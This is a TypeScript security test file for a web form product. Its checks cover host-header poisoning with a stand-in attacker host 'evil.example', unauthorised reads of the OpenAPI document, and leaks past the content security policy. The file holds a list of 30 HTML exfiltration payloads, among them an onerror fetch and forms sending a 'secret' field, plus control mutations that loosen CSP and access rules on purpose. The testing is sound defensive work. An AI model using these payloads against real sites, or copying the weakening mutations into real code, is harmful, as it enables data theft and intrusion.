/** Minor entry points: links to a foreign host, the OpenAPI document, and pages that could send data to other hosts. */
import { existsSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { fileURLToPath } from "node:url";
import { defineCheck } from "../check.ts";
import { callFrom } from "../from-address.ts";

export const hostHeader = defineCheck({
  id: "host-header",
  title: "Names another host in the request so that links of the answer lead there",
  hazard: "A link that the product makes leads to a stranger's host.",
  criterion:
    "No answer of 12 calls, with three spellings of the header, has the stranger's host in its body or its headers",
  quick: true,
  processes: [1],
  control: {
    mutations: [
      {
        file: "apps/server/src/kernel/request-context.ts",
        find: 'return this.config.baseUrl ?? "";',
        replace: "return this.config.baseUrl ?? `http://${this.request.host}`;",
      },
    ],
  },
  attack: async (world) => {
    const { node, admin: token } = world;
    const form = await world.publish({ items: [{ id: "a", type: "text", title: "A" }] });
    const file = (): FormData => {
      const body = new FormData();
      body.append("file", new Blob(["hello"]), "a.txt");
      return body;
    };
    const evil = "evil.example";
    const spellings: Record<string, string>[] = [
      { host: evil },
      { host: evil, "x-forwarded-host": evil },
      { "x-forwarded-host": evil, forwarded: `host=${evil}`, "x-forwarded-proto": "https" },
    ];
    const counts = { calls: 0, named: 0 };
    for (const headers of spellings) {
      const answers = [
        await callFrom(node, "POST", "/common/upload", { token, headers, body: file() }),
        await callFrom(node, "POST", "/common/uploads", { token, headers, body: file() }),
        await callFrom(node, "GET", `/form/${form.id}`, { token, headers }),
        await callFrom(node, "GET", "/form/list", { token, headers }),
        await callFrom(node, "GET", "/idata2", { headers }),
        await callFrom(node, "GET", `/idata2/collect/form/${form.key}`, { headers }),
        await callFrom(node, "GET", `/wxlogin?target=http://${evil}/idata2/form`, { headers }),
        await callFrom(node, "POST", "/logout", { headers }),
        await callFrom(node, "GET", "/nothing", { headers }),
        await callFrom(node, "GET", "/v3/api-docs", { token, headers }),
        await callFrom(node, "GET", "/captchaImage", { headers }),
        await callFrom(node, "GET", "/system/notice/listTop", { token, headers }),
      ];
      counts.calls += answers.length;
      counts.named += answers.filter(({ text, headers: got }) => (text + JSON.stringify(got)).includes(evil)).length;
    }
    return { counts, faults: counts.named };
  },
});

export const apiDocument = defineCheck({
  id: "api-document",
  title: "Reads the description of every call without the right to",
  hazard: "A stranger gets the complete map of the product, error codes and internal calls included.",
  criterion:
    "Nobody, a user without the permission and an administrator with a first password are refused at both addresses",
  quick: true,
  processes: [1],
  control: {
    mutations: [
      {
        file: "packages/contracts/src/endpoints/shell.ts",
        find: 'API_DOCUMENT = { access: { permission: "tool:swagger:list" } } as const',
        replace: 'API_DOCUMENT = { access: "public" } as const',
      },
    ],
  },
  attack: async (world) => {
    const stranger = await world.createUser();
    const counts = { refused: 0, shown: 0, shownToReader: 0 };
    const read = async (token?: string): Promise<boolean> => {
      const paths = ["/v3/api-docs", "/idata2/api/v3/api-docs"];
      const answers = await Promise.all(
        paths.map((path) => callFrom(world.node, "GET", path, token === undefined ? {} : { token })),
      );
      return answers.some(({ text }) => text.includes('"openapi"'));
    };
    for (const token of [undefined, stranger.token, "x".repeat(43)])
      counts[(await read(token)) ? "shown" : "refused"] += 1;
    if (await read(world.admin)) counts.shownToReader += 1;
    await world.pool.query("update sys_user set pwd_update_date = null where user_id = 1");
    counts[(await read(world.admin)) ? "shown" : "refused"] += 1;
    return { counts, faults: counts.shown + (1 - counts.shownToReader) };
  },
});

const DIST = fileURLToPath(new URL("../../apps/console/dist/index.html", import.meta.url));
const FILL = fileURLToPath(new URL("../../apps/fill/dist", import.meta.url));

/** HTML that could make a browser call another host. `{u}` is the attacker's address. */
const PAYLOADS = [
  '<iframe src="{u}/frame"></iframe>',
  '<iframe srcdoc="<img src={u}/srcdoc>"></iframe>',
  '<link rel="prefetch" href="{u}/prefetch">',
  '<link rel="preload" as="image" href="{u}/preload">',
  '<link rel="prerender" href="{u}/prerender">',
  '<link rel="modulepreload" href="{u}/modulepreload">',
  '<link rel="stylesheet" href="{u}/sheet">',
  '<link rel="icon" href="{u}/icon">',
  '<link rel="manifest" href="{u}/manifest">',
  '<img src="{u}/image">',
  '<img srcset="{u}/srcset 1x">',
  '<picture><source srcset="{u}/source"><img></picture>',
  '<video src="{u}/video" autoplay muted></video>',
  '<video poster="{u}/poster"></video>',
  '<video><track default src="{u}/track"></video>',
  '<audio src="{u}/audio" autoplay></audio>',
  '<object data="{u}/object"></object>',
  '<embed src="{u}/embed">',
  '<svg><image href="{u}/svg-image"/><use href="{u}/use#a"/></svg>',
  '<div style="background-image:url({u}/background)">x</div>',
  '<style>@import "{u}/import";body{list-style-image:url({u}/list)}@font-face{font-family:f;src:url({u}/font)}i{font-family:f}</style><i>i</i>',
  '<script src="{u}/script"></script>',
  '<img src="x" onerror="fetch(\'{u}/onerror\')">',
  '<input type="image" src="{u}/input" alt="x">',
  '<body background="{u}/body">',
  '<table background="{u}/table"><tr><td>x</td></tr></table>',
  '<base href="{u}/base/">',
  '<form class="send" action="{u}/form" method="get"><input name="secret" value="1"></form>',
  '<form class="send" method="post"><button class="press" formaction="{u}/formaction">x</button></form>',
  '<a class="ping" href="#here" ping="{u}/ping">x</a>',
];

/** Functions that run in the page, as text, because the harness is compiled without DOM types. */
const INJECT = `(html) => {
  const holder = document.createElement("div");
  holder.innerHTML = html;
  document.body.append(holder);
  // Some elements only have an effect in the head.
  for (const link of holder.querySelectorAll("link,style,base")) document.head.append(link.cloneNode(true));
}`;
const PRESS = `() => {
  for (const link of document.querySelectorAll("a.ping")) link.click();
  for (const press of document.querySelectorAll("button.press")) press.click();
  for (const send of document.querySelectorAll("form.send")) send.submit();
}`;
const REST = `() => new Promise((resolve) => requestIdleCallback(() => setTimeout(resolve, 700)))`;

async function startCanary(): Promise<{ url: string; seen: string[]; server: Server }> {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.end("ok");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const port = address !== null && typeof address === "object" ? address.port : 0;
  return { url: `http://127.0.0.1:${port}`, seen, server };
}

export const cspExfiltration = defineCheck({
  id: "csp-exfiltration",
  title: "Puts frames, prefetch links, images and forms into rich text and into the open page",
  hazard: "A page carries what it shows to another host.",
  criterion: "Of 30 payloads in the rich text of a form, and 30 put into the page itself, none reaches the listener",
  quick: false,
  processes: [1],
  control: {
    mutations: [
      {
        file: "apps/server/src/kernel/security-headers.ts",
        find: `["frame-src 'self'", ...frameOrigins].join(" "),`,
        replace: `"frame-src 'self' https: http:",`,
      },
    ],
  },
  attack: async (world) => {
    if (!existsSync(DIST) || !existsSync(FILL)) {
      return { counts: {}, faults: 0, skipped: "the pages are not built (npm run build)" };
    }
    const { chromium } = await import("@playwright/test");
    const { getChromium } = await import("@idata/testkit/chromium");
    const canary = await startCanary();
    const browser = await chromium.launch(await getChromium());
    const counts = { payloads: PAYLOADS.length, pages: 0, formatted: 0, arrived: 0, which: "" };
    try {
      const payloads = PAYLOADS.map((payload) => payload.replaceAll("{u}", canary.url));
      // The words of the HTML must equal the plain text, or all formatting is dropped.
      const items = payloads.map((html, n) => ({
        id: `s${n}`,
        type: "statement",
        title: `Part ${n}`,
        description: "Words",
        rich: { title: `<strong>Part ${n}</strong>${html}`, description: `<p><strong>Words</strong>${html}</p>` },
      }));
      const form = await world.publish({ items: [...items, { id: "q", type: "text", title: "Q" }] });
      const addresses = [`${world.node.url}/idata2/login`, `${world.node.url}/idata2/collect/form/${form.key}`];
      for (const address of addresses) {
        const page = await browser.newPage();
        await page.goto(address, { waitUntil: "load" });
        counts.pages += 1;
        counts.formatted = await page.locator("strong").count();
        for (const html of payloads) await page.evaluate(`(${INJECT})(${JSON.stringify(html)})`);
        await page.evaluate(`(${PRESS})()`).catch(() => {});
        // Prefetches wait until the page is idle, so all requests have been made by then.
        await page.waitForLoadState("networkidle").catch(() => {});
        await page.evaluate(`(${REST})()`).catch(() => {});
        await page.close();
      }
      counts.arrived = canary.seen.length;
      counts.which = [...new Set(canary.seen)].slice(0, 5).join(" ");
    } finally {
      await browser.close();
      canary.server.close();
    }
    // A fault if the page shows no formatting: the payloads were then never rendered.
    return { counts, faults: counts.arrived + (counts.formatted > PAYLOADS.length / 2 ? 0 : 1) };
  },
});
